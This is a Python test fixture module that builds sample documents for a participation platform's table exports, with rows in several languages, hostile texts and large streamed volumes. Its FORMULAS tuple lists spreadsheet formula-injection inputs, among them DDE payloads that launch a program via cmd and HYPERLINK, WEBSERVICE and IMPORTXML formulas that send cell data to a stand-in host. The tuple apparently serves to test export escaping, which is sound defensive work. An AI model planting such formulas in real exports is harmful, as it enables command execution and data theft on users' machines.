"""Documents for the tests of tables: every kind of row filled, in three languages, both directions, nasty or many."""

from collections.abc import Iterator
from dataclasses import replace
from datetime import date, timedelta

from participation.exports.document import (
    AnswerRow,
    CommentRow,
    DecisionRow,
    FieldRow,
    FilingRow,
    InLanguage,
    MeasureRow,
    Points,
    ReferralRow,
    Rows,
    StatementRow,
    StepRow,
    StrategyInput,
    TranslationRow,
    VoteRow,
    rows,
)
from tests.exports.writer_samples import MOMENT, NASTY, nasty, small, streaming

DAY = date(2026, 5, 3)
NAMES = {"de": "German", "en": "English", "ar": "Arabic"}

FORMULAS = (
    "=1+1",
    "＝1+1",
    "+49 231 500",
    "＋1",
    "-1+2",
    "－1",
    "@SUM(A1:A2)",
    "＠x",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\u00a0=1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    "“=1+1”",
    "«=1+1»",
    ";=1+1",
    ",=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("https://example.org/?x="&A1,"Click")',
    '=WEBSERVICE("https://example.org/")',
    '=IMPORTXML(CONCAT("https://example.org/",A1),"//a")',
    "=1+1\n=2+2",
    "{=1+1}",
    "of:=1+1",
    "msoxl:=1+1",
)
"""What spreadsheets, or people who paste into them, might take for something to compute."""


def full() -> StrategyInput:
    """Return the small document with every kind of row in it, and its editorial texts in three languages."""
    document = small()
    first, second = document.statements
    ideas = tuple(document.ideas())
    return replace(
        document,
        process_id="7",
        slug="digital",
        url="https://example.org/en/processes/digital",
        number="0815-26",
        languages=NAMES,
        has_points=True,
        title_in={"de": "Digitalstrategie", "en": "Digital strategy"},
        question_in={"de": "Wie wird die Stadt digital?", "en": document.question},
        fields=(FieldRow(id="f1", number=1, title="Education", ideas=1, title_in={"de": "Bildung"}),),
        statements=(
            replace(
                first,
                text_in={"en": first.text, "de": "Die Stadt hilft in jedem Bezirk.", "ar": "تساعد المدينة في كل حي."},
                reasoning_in={"en": first.reasoning, "de": "Viele bitten darum.\nNiemand ist dagegen."},
                published_at=MOMENT,
                url="https://example.org/en/statements/1",
            ),
            second,
        ),
        clusters=tuple(
            replace(cluster, title_in={"en": cluster.title, "ar": "التعلم"}, description_in={"de": "Kurse und Hilfe"})
            for cluster in document.clusters
        ),
        assessments=tuple(
            replace(
                row, about_in={"de": "Ist es gerecht?"}, reason_in={"de": "Nicht überall."}, verdict_code="conflict"
            )
            for row in document.assessments
        ),
        ideas=rows(replace(ideas[0], points=Points(points=40, people=9)), *ideas[1:]),
        votes=rows(
            VoteRow(idea_id="1", agree=12, unsure=3, disagree=4, people=19, points=40, points_people=9),
            VoteRow(idea_id="2", withheld="few"),
            VoteRow(idea_id="3", withheld="hidden"),
        ),
        filings=rows(
            FilingRow(
                idea_id="1", cluster_id="c2", is_main=True, origin="by staff", filed_at=MOMENT, origin_code="hand"
            ),
            FilingRow(idea_id="1", cluster_id="c1", is_main=False, origin="file", filed_at=MOMENT, origin_code="file"),
        ),
        decisions=_decisions(),
        answers=_answers(),
        measures=rows(_measure()),
        referrals=_referrals(),
        translations=rows(_translation("1", "Yardım", "Haftada bir saat.", "LibreTranslate"), _translation("2")),
    )


def translated() -> StrategyInput:
    """Return that document in Turkish, with its first idea in Turkish too."""
    document = full()
    first, *others = document.ideas()
    said = InLanguage(
        title="Yardım", text="Haftada bir saat.", language="tr", note="translated by people", origin_code="human"
    )
    return replace(document, language="tr", has_translations=True, ideas=rows(replace(first, translated=said), *others))


def _translation(number: str, title: str = "", text: str = "Neden?", provider: str = "") -> TranslationRow:
    return TranslationRow(
        id=number,
        kind="Idea" if title else "Comment",
        kind_code="idea" if title else "comment",
        about_id=number,
        idea_id="1",
        language="tr",
        from_language="en",
        origin="machine" if provider else "people",
        origin_code="machine" if provider else "human",
        provider=provider,
        revision=2,
        title=title,
        text=text,
    )


def _decisions() -> Rows[DecisionRow]:
    return rows(
        DecisionRow(
            id="1",
            subject="idea",
            decision="hidden",
            ground="insult",
            decided_on=DAY,
            automation="none",
            hours_waited=1.5,
            appeal="upheld",
            digest="00ff",
            subject_code="idea",
            decision_code="hide",
            ground_code="insult",
            automation_code="none",
            appeal_code="upheld",
        ),
        DecisionRow(id="2", subject="comment", decision="published", ground="", decided_on=DAY),
    )


def _referrals() -> Rows[ReferralRow]:
    return rows(
        ReferralRow(
            id="r1",
            kind="statement",
            target_id="s1",
            department="Parks",
            due_on=DAY,
            first_due_on=DAY - timedelta(days=7),
            referred_at=MOMENT,
        )
    )


def _answers() -> Rows[AnswerRow]:
    return rows(
        AnswerRow(
            id="a1",
            kind="statement",
            target_id="s1",
            department="Parks",
            outcome="Yes, in part",
            outcome_code="partly",
            text="From autumn on.\nIn two districts first.",
            text_in={"en": "From autumn on.\nIn two districts first.", "de": "Ab Herbst.", "ar": "من الخريف"},
            answered_at=MOMENT,
            due_on=DAY,
            is_overdue=True,
        ),
        AnswerRow(
            id="a2",
            kind="idea",
            target_id="1",
            department="Libraries",
            outcome="No",
            text="No.",
            answered_at=MOMENT,
            is_latest=False,
        ),
    )


def _measure() -> MeasureRow:
    return MeasureRow(
        id="m1",
        answer_id="a1",
        title="Two rooms",
        title_in={"en": "Two rooms", "de": "Zwei Räume"},
        department="Libraries",
        state="begun",
        state_code="begun",
        due_on=DAY,
        first_due_on=DAY - timedelta(days=30),
        is_overdue=True,
        steps=(
            StepRow(state="planned", state_code="planned", text="", reported_at=MOMENT, due_on=DAY),
            StepRow(state="begun", text="One room\nis open.", reported_at=MOMENT, text_in={"en": "One room\nis open."}),
        ),
    )


def nasty_tables(texts: tuple[str, ...] = NASTY) -> StrategyInput:
    """Return a document in which every text of every kind of row takes each of ``texts``."""
    document = nasty(texts)
    numbered = tuple(enumerate(texts))
    return replace(
        document,
        process_title=texts[0],
        question=texts[0],
        city=texts[0],
        source_note=texts[0],
        method_note=texts[0],
        languages=NAMES,
        votes=rows(*(VoteRow(idea_id=text, agree=1, unsure=0, disagree=2, people=3) for text in texts)),
        translations=rows(*(_translation(text, text, text, text) for text in texts)),
        statements=tuple(_with_texts(row) for row in document.statements),
        decisions=rows(
            *(
                DecisionRow(id=text, subject=text, decision=text, ground=text, decided_on=DAY, appeal=text, digest=text)
                for text in texts
            )
        ),
        filings=rows(
            *(FilingRow(idea_id=text, cluster_id=text, is_main=False, origin=text, filed_at=MOMENT) for text in texts)
        ),
        answers=rows(
            *(
                AnswerRow(
                    id=str(position),
                    kind="idea",
                    target_id=text,
                    department=text,
                    outcome=text,
                    text=text,
                    text_in={"de": text},
                    answered_at=MOMENT,
                )
                for position, text in numbered
            )
        ),
        measures=rows(
            *(
                MeasureRow(
                    id=str(position),
                    answer_id=text,
                    title=text,
                    title_in={"ar": text},
                    department=text,
                    state=text,
                    due_on=DAY,
                    first_due_on=DAY,
                    steps=(StepRow(state=text, text=text, reported_at=MOMENT),),
                )
                for position, text in numbered
            )
        ),
    )


def _with_texts(row: StatementRow) -> StatementRow:
    several = (row.text, row.text)
    return replace(row, text_in={"de": row.text}, quotes=several, objections=several, signed=row.text, lost=several)


def many(count: int) -> StrategyInput:
    """Return a document whose ``count`` ideas, votes and filings, and twice as many comments, exist one at a time."""

    def votes() -> Iterator[VoteRow]:
        return (VoteRow(idea_id=str(number), agree=1, unsure=2, disagree=3, people=6) for number in range(count))

    def filings() -> Iterator[FilingRow]:
        for number in range(count):
            yield FilingRow(idea_id=str(number), cluster_id="c1", is_main=True, origin="by staff", filed_at=MOMENT)

    def comments() -> Iterator[CommentRow]:
        for number in range(2 * count):
            yield CommentRow(id=str(number), idea_id="1", text="Yes. " * 20, language="en", submitted_at=MOMENT)

    return replace(streaming(count), votes=votes, filings=filings, comments=comments)
